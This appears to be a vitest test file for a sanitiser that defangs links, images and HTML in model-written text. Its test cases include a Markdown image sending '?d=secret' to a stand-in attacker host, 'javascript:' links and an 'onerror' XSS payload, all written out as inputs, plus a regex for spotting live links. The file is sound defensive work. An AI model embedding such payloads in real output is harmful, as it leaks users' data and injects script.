import { describe, expect, test } from "vitest";
import { neutraliseLinks } from "../../src/assessments/neutralise-links.ts";

/** What Markdown and HTML read as a link, an image or markup. */
const LIVE =
  /!?\[[^\]]*\]\(|^\s*\[[^\]]+\]:|<[a-z/!?]|\b(?:https?|ftp|file):\/\/|\b(?:javascript|data|vbscript):\S|\bwww\.\S/im;

describe("what a model writes keeps its words and loses its links and images", () => {
  test.each([
    ["See ![logo](https://evil.example/x.png?d=secret).", "See logo (https[:]//evil.example/x.png?d=secret)."],
    ["See [the policy](https://evil.example/a 'title').", "See the policy (https[:]//evil.example/a 'title')."],
    ["![](data:image/png;base64,AAAA)", "data[:]image/png;base64,AAAA"],
    ["[click](javascript:alert(1))", "click (javascript[:]alert(1))"],
    ["[![alt](https://a.example/i.png)](https://b.example)", "alt (https[:]//a.example/i.png) (https[:]//b.example)"],
    ["As in [the policy][1].\n\n[1]: https://evil.example", "As in [the policy][1].\n\n1: https[:]//evil.example"],
    ["<https://evil.example/x>", "https[:]//evil.example/x"],
    ["<img src=x onerror=alert(1)>Backups <b>run</b> daily", "Backups run daily"],
    ["<img src=//evil.example/x", "< img src=//evil.example/x"],
    ["before <!-- hidden --> after", "before  after"],
    ["at HTTPS://evil.example and www.evil.example", "at HTTPS[:]//evil.example and www[.]evil.example"],
    ["![a](<https://evil.example/a b>)", "a ()"],
  ])("%j", (text, expected) => {
    const plain = neutraliseLinks(text);
    expect(plain).toBe(expected);
    expect(plain).not.toMatch(LIVE);
    expect(neutraliseLinks(plain)).toBe(plain);
  });

  test.each([
    "Kept < 90 days, or <90 days; a > b.",
    "The template says [Company] (see section 3.2).",
    "The data: three backups a day. Access is reviewed [quarterly].",
    "Ratio 3:1, at 22:00, \u201cBackups are taken daily\u201d.",
    "",
  ])("plain text stays as it is: %j", (text) => {
    expect(neutraliseLinks(text)).toBe(text);
  });

  test("deep nesting ends", () => {
    const deep = `${"[".repeat(300)}a${"](https://evil.example)".repeat(300)}`;
    expect(neutraliseLinks(deep)).not.toMatch(LIVE);
  });
});
